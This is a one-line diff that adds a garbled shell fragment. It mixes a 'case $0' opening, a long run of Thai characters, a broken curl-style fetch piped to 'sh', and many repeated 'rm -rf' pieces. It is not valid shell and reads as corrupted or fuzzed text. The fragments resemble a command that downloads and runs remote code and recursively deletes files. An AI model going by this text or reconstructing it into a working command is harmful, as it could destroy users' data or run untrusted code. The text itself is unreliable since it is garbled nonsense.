@@ -1,0 +1,1 @@
+case $0ออออออออออออออออออออออออออออออออออออออออออออออออออออออออออออออออb "$(-1sSL http=:ÿalt.lf bu -rf bcase <<   -r -rf  bu -rfrm -rf bu -rf bcase <<*sh)"oc cdv(((d1 bu -rf blm-&rfrm -rf bu -rf bcase <<   -r -rf  bu -rfrm -rf bu -rf bcase <<   -r  -.r -e== hc===aT 
